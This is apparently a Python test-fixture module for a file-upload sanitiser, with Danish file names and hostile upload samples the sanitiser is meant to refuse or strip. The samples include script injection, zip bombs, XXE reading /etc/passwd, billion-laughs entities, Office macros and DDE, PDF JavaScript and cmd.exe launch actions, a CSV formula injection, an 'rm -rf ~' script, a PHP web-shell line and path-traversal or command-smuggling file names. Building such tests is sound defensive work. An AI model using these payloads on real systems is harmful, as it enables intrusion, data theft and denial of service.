"""Files that mean harm, made when the tests are run: what each is called, what is in it, and what becomes of it.

`REFUSED` are not taken. `MADE_HARMLESS` are taken and come back without what was in them; the second thing is what
may not be found in them afterwards. `ONLY_FETCHED` are sound by content and hostile by name alone.
"""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator

from PIL import Image

from tests.files import open_document, parcel, pdf, photograph, picture, sheet, slides, types, word

SCRIPT = b"<script>alert(document.domain)</script>"
HTML = b"<!doctype html><html><body>" + SCRIPT + b"</body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR" + rb"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
MARK = b"HEMMELIG-LAST"
MACRO = "macroEnabled"
XXE = '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'
LAUGHS = '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><l>&b;</l>'


def png_of(width: int, height: int) -> bytes:
    """A PNG that says it is of a size, with the pixels of nothing."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">L", len(content)) + kind + content + struct.pack(">L", zlib.crc32(kind + content))

    head = struct.pack(">2L5B", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b"")
    )


def bomb(name: str = "word/media/a.xml", megabytes: int = 400, parts: int = 1) -> bytes:
    """A document that is small and unpacks to very much."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("[Content_Types].xml", types())
        for n in range(parts):
            with archive.open(f"{n}{name}", "w", force_zip64=True) as part:
                for _ in range(megabytes):
                    part.write(bytes(1024 * 1024))
    return written.getvalue()


def lying_about_size() -> bytes:
    """A part that says it is of ten bytes and unpacks to five million."""
    content = parcel({"[Content_Types].xml": types(), "word/document.xml": b"<w:t>" + b"a" * 5_000_000 + b"</w:t>"})
    return content.replace(struct.pack("<L", 5_000_011), struct.pack("<L", 10))


def overlapping() -> bytes:
    """Two names for the same bytes, as bombs of the newer kind have them."""
    content = parcel({"[Content_Types].xml": types(), "word/a.xml": "<a/>", "word/b.xml": "<b/>"})
    start = content.index(b"PK\x01\x02")
    first, second = (
        content.index(b"PK\x03\x04", at) for at in (content.index(b"word/a") - 40, content.index(b"word/b") - 40)
    )
    return content[:start] + content[start:].replace(struct.pack("<L", second), struct.pack("<L", first))


def many_parts() -> bytes:
    return parcel({"[Content_Types].xml": types()} | {f"word/{n}.xml": "" for n in range(5000)})


def encrypted() -> bytes:
    content = bytearray(word())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(mark)
        while at >= 0:
            content[at + offset] |= 1
            at = content.find(mark, at + 4)
    return bytes(content)


def twice() -> bytes:
    """The same name twice: which of the two is read depends on who reads."""
    other = types().encode().replace(b"word/document", b"word/DOCUMENT")
    return parcel({"[Content_Types].xml": types(), "word/document.xml": "<a/>", "WORD/document.xml": other})


def object_stream(content: bytes) -> bytes:
    packed = zlib.compress(content)
    head = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>" % len(packed)
    return pdf().replace(b"trailer", b"5 0 obj\n" + head + b"\nstream\n" + packed + b"\nendstream\nendobj\ntrailer")


def relation(kind: str, target: str = "https://ondt.example/x") -> bytes:
    rels = (
        f'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    )
    return word({"word/_rels/document.xml.rels": rels})


REFUSED: dict[str, bytes] = {
    "tegning.svg": SVG,
    "tegning.png": SVG,
    "side.png": HTML,
    "side.html": HTML,
    "side.pdf": HTML,
    "side.jpg": b"\n\n" + HTML,
    "gif-og-script.gif": b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)//",
    "halvt-billede.jpg": photograph()[:200],
    "ikke-et-billede.jpg": b"\xff\xd8\xff\xe0" + b"JFIF" * 100,
    "tomt.png": b"\x89PNG\r\n\x1a\n",
    "tom.pdf": b"",
    "eicar.txt": EICAR,
    "eicar.com": EICAR,
    "program.exe": b"MZ\x90\0" + b"\0" * 200,
    "program.pdf.exe": b"MZ\x90\0" + b"\0" * 200,
    "program.pdf": b"MZ\x90\0" + b"\0" * 200,
    "elf": b"\x7fELF" + b"\0" * 100,
    "script.sh": b"#!/bin/sh\nrm -rf ~\n",
    "script.js": b"alert(1)",
    "script.vbs": b"MsgBox 1",
    "genvej.lnk": b"L\0\0\0\x01\x14\x02\0",
    "side.hta": b"<hta:application>" + SCRIPT,
    "pakke.zip": parcel({"a.txt": "a"}),
    "pakke.docx": parcel({"a.txt": "a"}),
    "pakke.jar": parcel({"META-INF/MANIFEST.MF": "Main-Class: A"}),
    "gammelt.doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500,
    "tekst.rtf": rb"{\rtf1\object\objdata 0105}",
    "data.csv": b"=cmd|' /C calc'!A0;1\n",
    "scan.tiff": picture("TIFF"),
    "ikon.ico": picture("ICO"),
    "tegning.eps": b"%!PS-Adobe-3.0 EPSF-3.0\n",
    "stor.png": png_of(30_000, 30_000),
    "bred.png": png_of(2_000_000, 20),
    "bombe.docx": bomb(),
    "bombe-i-mange.docx": bomb(megabytes=30, parts=8),
    "loegn.docx": lying_about_size(),
    "oven-i-hinanden.docx": overlapping(),
    "mange.docx": many_parts(),
    "zip-i-zip.docx": word({"word/media/a.zip": parcel({"a": "b"})}),
    "zip-i-zip-i-zip.pptx": slides({"ppt/embeddings/a.pptx": slides({"ppt/embeddings/b.xlsx": sheet()})}),
    "bombe-i-diagram.pptx": slides({"ppt/embeddings/a.xlsx": bomb(megabytes=200)}),
    "makro.docm": word({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
    "makro.docx": parcel({"[Content_Types].xml": types(MACRO), "word/document.xml": "<a/>"}),
    "gammel-makro.xlsx": word({"xl/macrosheets/sheet1.xml": "<a/>"}),
    "activex.docx": word({"word/activeX/activeX1.bin": b"\0"}),
    "ole.docx": word({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
    "program-i.docx": word({"word/media/image1.png": b"MZ\x90\0"}),
    "makro.odt": open_document(more={"Basic/Standard/Module1.xml": "<a/>"}),
    "lytter.odt": open_document(more={"settings.xml": "<script:event-listener/>"}),
    "xxe.docx": word({"word/settings.xml": XXE}),
    "xxe-i-indhold.odt": open_document(more={"meta.xml": XXE}),
    "latter.docx": word({"word/settings.xml": LAUGHS}),
    "xxe-utf16.docx": word({"word/settings.xml": XXE.encode("utf-16")}),
    "xxe-utf7.docx": word({"word/settings.xml": '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a+AD4-'}),
    "skabelon-udefra.docx": relation("attachedTemplate"),
    "billede-udefra.docx": relation("image", "file://ondt.example/x.png"),
    "objekt-udefra.docx": relation("oleObject"),
    "dde.docx": word(body="DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"),
    "sti-op.docx": word({"../../etc/cron.d/x": "x"}),
    "sti-fra-roden.docx": word({"/etc/passwd": "x"}),
    "laast.docx": encrypted(),
    "to-gange.docx": twice(),
    "bagved.docx": word() + HTML,
    "foran.docx": HTML + word(),
    "javascript.pdf": pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
    "javascript-skjult.pdf": pdf(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),
    "javascript-pakket.pdf": object_stream(b"1 0 << /S /JavaScript /JS (app.alert(1)) >>"),
    "starter.pdf": pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
    "fil-i.pdf": pdf(b"/Names << /EmbeddedFiles 7 0 R >>"),
    "sender.pdf": pdf(b"/AA << /O << /S /SubmitForm /F (https://ondt.example) >> >>"),
    "laast.pdf": pdf().replace(b"/Size 4", b"/Size 4 /Encrypt 9 0 R"),
    "pdf-og-zip.pdf": pdf() + parcel({"a": "b"}),
    "pdf-i-html.pdf": HTML + pdf(),
    "bombe.pdf": object_stream(b"0" * 60_000_000),
    "afkortet.pdf": pdf()[:-20],
}  # fmt: skip


def with_text(text: bytes) -> bytes:
    """A PNG with words in it that nobody sees."""
    content = picture("PNG")
    kind, words = b"tEXt", b"Comment\0" + text
    chunk = struct.pack(">L", len(words)) + kind + words + struct.pack(">L", zlib.crc32(kind + words))
    return content[:33] + chunk + content[33:]


def moving(format: str) -> bytes:
    """Three pictures in one, as GIF, WebP and PNG have them."""
    frames = [Image.new("RGB", (40, 40), colour) for colour in ("red", "green", "blue")]
    written = io.BytesIO()
    frames[0].save(written, format, save_all=True, append_images=frames[1:], duration=100, loop=0)
    return written.getvalue()


MADE_HARMLESS: dict[str, tuple[bytes, bytes]] = {
    "gps.jpg": (photograph(), b"Exif"),
    "kommentar.jpg": (photograph(), b"HEMMELIG-KOMMENTAR"),
    "bagved.jpg": (photograph() + HTML, SCRIPT),
    "bagved.png": (picture("PNG") + parcel({"a.js": MARK}, zipfile.ZIP_STORED), MARK),
    "bagved.gif": (picture("GIF", mode="P") + SCRIPT, SCRIPT),
    "script-i.png": (with_text(SCRIPT), SCRIPT),
    "php-i.png": (with_text(b"<?php system($_GET[0]); ?>"), b"<?php"),
    "xmp.webp": (picture("WEBP", xmp=b"<x:xmpmeta>" + MARK + b"</x:xmpmeta>"), MARK),
    "profil.jpg": (picture("JPEG", icc_profile=MARK * 30), MARK),
    "bevaeger-sig.gif": (moving("GIF"), b"NETSCAPE"),
    "bevaeger-sig.webp": (moving("WEBP"), b"ANIM"),
    "bevaeger-sig.png": (moving("PNG"), b"acTL"),
    "hedder-pdf.pdf": (photograph(), b"Exif"),
}

NAMES = (
    "../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/shadow", "C:\\autoexec.bat", "a\0b.pdf.exe",
    "a\r\nSet-Cookie: x=1.pdf", "CON", "nul.pdf", "COM1.docx", "lpt9.tar.gz", "faktura\u202efdp.exe",
    "\u2066x\u2069.pdf", "\u200b\u200b.pdf", "x" * 255, "ø" * 255 + ".pdf", "x.pdf.exe", "x.html", ".htaccess", "....",
    "", " ", "-rf", "a;b.pdf", 'a".pdf', "<script>.pdf", "a'b`c$(d).pdf", "%2e%2e%2fx.pdf", "\U000e0041.pdf",
    "a" + "\u0301" * 300 + ".pdf", "~", "\ud83d.pdf", "x.pdf::$DATA",
)  # fmt: skip


def noise(seed: int, many: int) -> Iterator[bytes]:
    """Sound files with bytes changed at random, always the same for a seed."""
    chance = random.Random(seed)
    sound = [photograph(), picture("PNG"), picture("WEBP"), picture("GIF", mode="P"), pdf(), word(), sheet(), slides()]
    for n in range(many):
        content = bytearray(sound[n % len(sound)])
        for _ in range(chance.choice((1, 3, 20))):
            content[chance.randrange(4, len(content))] = chance.randrange(256)
        yield bytes(content)
